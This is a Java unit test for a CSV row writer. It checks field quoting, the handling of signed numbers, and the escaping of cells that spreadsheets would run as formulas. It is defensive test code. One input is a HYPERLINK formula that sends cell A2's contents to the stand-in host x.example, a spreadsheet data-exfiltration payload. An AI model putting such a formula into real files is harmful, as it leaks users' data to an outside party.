package dev.feedback360.streams.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Arrays;
import org.junit.jupiter.api.Test;

class CsvTest {

  @Test
  void shouldQuoteOnlyFieldsThatNeedIt() {
    assertThat(Csv.row(Arrays.asList("plain", "a,b", "say \"hi\"", "two\nlines", null, "")))
        .isEqualTo("plain,\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\",,\n");
  }

  @Test
  void shouldWriteTextThatASpreadsheetWouldRunAsAFormulaAfterAnApostrophe() {
    assertThat(Csv.row(Arrays.asList("=HYPERLINK(\"http://x.example/?\"&A2,\"open\")", "+1+1", "-2+3", "@SUM(A1)",
        "\tT1", "\rT1", "a=b")))
        .isEqualTo("\"'=HYPERLINK(\"\"http://x.example/?\"\"&A2,\"\"open\"\")\",'+1+1,'-2+3,'@SUM(A1),'\tT1,"
            + "\"'\rT1\",a=b\n");
  }

  @Test
  void shouldWriteSignedNumbersAsTheyAre() {
    assertThat(Csv.row(Arrays.asList("-0.25", "-3", "+1.5", "-1e-3", "-.5", "0.00")))
        .isEqualTo("-0.25,-3,+1.5,-1e-3,-.5,0.00\n");
  }
}
